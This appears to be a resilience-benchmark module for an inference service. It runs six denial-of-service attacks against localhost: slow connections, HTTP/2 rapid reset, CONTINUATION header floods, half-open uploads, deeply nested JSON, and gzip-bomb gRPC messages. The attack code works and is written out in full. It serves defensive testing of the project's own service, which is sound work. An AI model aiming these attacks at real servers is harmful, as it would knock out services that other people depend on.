"""One attack as a process: `python -m benchmarks.resilience.attackers KIND`, with an order as a line of JSON.

It takes what processor time nobody else wants (nice 19) and keeps to a rate, so that on a small machine the others wait
for what the service does about the attack, not for the attacker's own work. It says `ready` once the attack goes on and
ends when its standard input closes.
"""

from __future__ import annotations

import asyncio
import json
import os
import struct
import sys
import zlib
from collections.abc import Awaitable, Callable
from dataclasses import dataclass

from hpack import Encoder

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + struct.pack(">I", 0)[1:] + struct.pack(">BBI", 4, 0, 0)
_DATA, _HEADERS, _RST_STREAM, _CONTINUATION = 0, 1, 3, 9
_NICE = 19
# Pieces of an attack a second, of each attacker.
_PACE_S = 0.02
# That a thousand requests come within a second is no slow attack: it has begun when all of them are there.
_BEGUN_S = {"slow connections": 3.0}


@dataclass(frozen=True, slots=True)
class Order:
    """Which port is attacked, by how many connections, with whose tokens; `edge` says which of the two ports it is."""

    port: int
    edge: bool
    connections: int
    tokens: list[str]

    def fields(self, number: int, path: str, **more: str) -> list[tuple[str, str]]:
        """Returns the headers of a request over HTTP/2 with a token."""
        fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x")]
        fields.append(("authorization", f"Bearer {self.token(number)}"))
        return fields + [(name.replace("_", "-"), value) for name, value in more.items()]

    def token(self, number: int) -> str:
        """Returns the token of one connection."""
        return self.tokens[number % len(self.tokens)]


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


async def _slow(order: Order, number: int) -> None:
    """Headers at a byte a second, and bodies where the number is odd, each connection in its own phase."""
    await asyncio.sleep(number / order.connections)
    _, writer = await asyncio.open_connection("127.0.0.1", order.port)
    if order.edge and number % 2:
        head = f"POST /v1/uploads HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {order.token(number)}\r\n"
        writer.write(f"{head}content-type: image/png\r\ncontent-length: 100000\r\n\r\n".encode())
        text = b"\x89PNG\r\n\x1a\n" + bytes(1000)
    elif order.edge:
        text = b"GET /v1/models HTTP/1.1\r\nhost: x\r\nx-a: " + b"y" * 1000
    else:
        writer.write(_PREFACE + struct.pack(">I", 1000)[1:] + struct.pack(">BBI", _HEADERS, 5, 1))
        text = bytes(1000)
    for byte in text:
        writer.write(bytes([byte]))
        await writer.drain()
        await asyncio.sleep(1)


async def _rapid_reset(order: Order, number: int) -> None:
    """A hundred streams at a time, each reset as soon as it is begun."""
    path = "/v1/infer" if order.edge else "/camserve.v1.InferenceService/Infer"
    kind = "application/json" if order.edge else "application/grpc"
    block = Encoder().encode(order.fields(number, path, content_type=kind), huffman=False)
    _, writer = await asyncio.open_connection("127.0.0.1", order.port)
    writer.write(_PREFACE)
    # Encoded again for every connection only: the second request names what the first one put into the table.
    again = Encoder()
    again.encode(order.fields(number, path, content_type=kind), huffman=False)
    short = again.encode(order.fields(number, path, content_type=kind), huffman=False)
    stream = 1
    while True:
        pieces = []
        for _ in range(100):
            pieces.append(_frame(_HEADERS, 4, stream, block if stream == 1 else short))
            pieces.append(_frame(_RST_STREAM, 0, stream, struct.pack(">I", 8)))
            stream += 2
        writer.write(b"".join(pieces))
        await writer.drain()
        await asyncio.sleep(_PACE_S * order.connections)


async def _header_flood(order: Order, number: int) -> None:
    """Headers that never end, 16 kB at a time."""
    _, writer = await asyncio.open_connection("127.0.0.1", order.port)
    block = Encoder().encode(order.fields(number, "/v1/models"), huffman=False)
    writer.write(_PREFACE + _frame(_HEADERS, 1, 1, block))
    value = b"\0\3x-a\x7f" + b"\x81\x7c" + b"y" * 16_000  # a literal of 16,000 bytes
    while True:
        writer.write(_frame(_CONTINUATION, 0, 1, value))
        await writer.drain()
        await asyncio.sleep(_PACE_S * order.connections)


async def _half_open(order: Order, number: int) -> None:
    """An upload that says how long it is and stops after its first bytes."""
    reader, writer = await asyncio.open_connection("127.0.0.1", order.port)
    if order.edge:
        head = f"POST /v1/uploads HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {order.token(number)}\r\n"
        writer.write(f"{head}content-type: image/png\r\ncontent-length: 100000\r\n\r\n".encode() + b"\x89PNG\r\n\x1a\n")
    else:
        path = "/camserve.v1.UploadService/UploadImage"
        block = Encoder().encode(order.fields(number, path, content_type="application/grpc", te="trailers"))
        writer.write(
            _PREFACE + _frame(_HEADERS, 4, 1, block) + _frame(_DATA, 0, 1, struct.pack(">BI", 0, 2) + b"\x08\x01")
        )
    await reader.read()
    await asyncio.sleep(1)


async def _deep_json(order: Order, number: int) -> None:
    """A hundred kilobytes of arrays in arrays, over and over."""
    arrays = 50_000
    body = b'{"model": "shapes", "metadata": {"a": ' + b"[" * arrays + b"]" * arrays + b"}}"
    head = f"POST /v1/jobs HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {order.token(number)}\r\nconnection: close\r\n"
    request = f"{head}content-type: application/json\r\ncontent-length: {len(body)}\r\n\r\n".encode() + body
    await _ask(order, request)


async def _bomb(order: Order, number: int) -> None:
    """64 MB of zeros as one gRPC message, packed a thousandfold: what fits the first window."""
    path = "/camserve.v1.InferenceService/Infer"
    fields = order.fields(number, path, content_type="application/grpc", te="trailers", grpc_encoding="gzip")
    message = struct.pack(">BI", 1, len(_packed())) + _packed()
    window = message[:65_535]
    frames = [_frame(_DATA, 0, 1, window[at : at + 16_384]) for at in range(0, len(window), 16_384)]
    await _ask(order, _PREFACE + _frame(_HEADERS, 4, 1, Encoder().encode(fields)) + b"".join(frames))


async def _ask(order: Order, request: bytes) -> None:
    reader, writer = await asyncio.open_connection("127.0.0.1", order.port)
    try:
        writer.write(request)
        await reader.read(100)
    finally:
        writer.close()
    await asyncio.sleep(_PACE_S * order.connections)


_bombs: list[bytes] = []


def _packed() -> bytes:
    if not _bombs:
        packer = zlib.compressobj(9, zlib.DEFLATED, zlib.MAX_WBITS | 16)
        piece = bytes(1 << 20)
        _bombs.append(b"".join(packer.compress(piece) for _ in range(64)) + packer.flush())
    return _bombs[0]


KINDS: dict[str, Callable[[Order, int], Awaitable[None]]] = {
    "slow connections": _slow,
    "rapid reset": _rapid_reset,
    "header flood": _header_flood,
    "half-open uploads": _half_open,
    "deep JSON": _deep_json,
    "gRPC bombs": _bomb,
}


async def _attack(kind: str, order: Order) -> None:
    if kind == "gRPC bombs":
        _packed()

    async def attacker(number: int) -> None:
        while True:
            try:
                await KINDS[kind](order, number)
            except OSError:  # thrown out: comes again
                await asyncio.sleep(0.1)

    attackers = [asyncio.create_task(attacker(number)) for number in range(order.connections)]
    await asyncio.sleep(_BEGUN_S.get(kind, 0.2))
    print("ready", flush=True)
    await asyncio.to_thread(sys.stdin.read)
    for task in attackers:
        task.cancel()
    await asyncio.gather(*attackers, return_exceptions=True)


if __name__ == "__main__":
    os.nice(_NICE)
    asyncio.run(_attack(sys.argv[1], Order(**json.loads(sys.stdin.readline()))))
